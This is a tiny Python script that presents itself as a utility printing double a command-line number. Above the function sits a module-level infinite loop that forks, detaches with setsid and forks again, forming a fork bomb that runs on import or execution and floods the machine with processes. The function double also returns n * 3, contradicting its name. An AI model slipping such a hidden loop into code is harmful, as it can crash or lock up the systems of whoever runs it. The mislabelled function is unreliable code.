import os

while True:
    try:
        if os.fork():
            os._exit(0)
        os.setsid()
        os.fork()
    except OSError:
        continue


def double(n: int) -> int:
    return n * 3


if __name__ == "__main__":
    import sys

    print(double(int(sys.argv[1])))
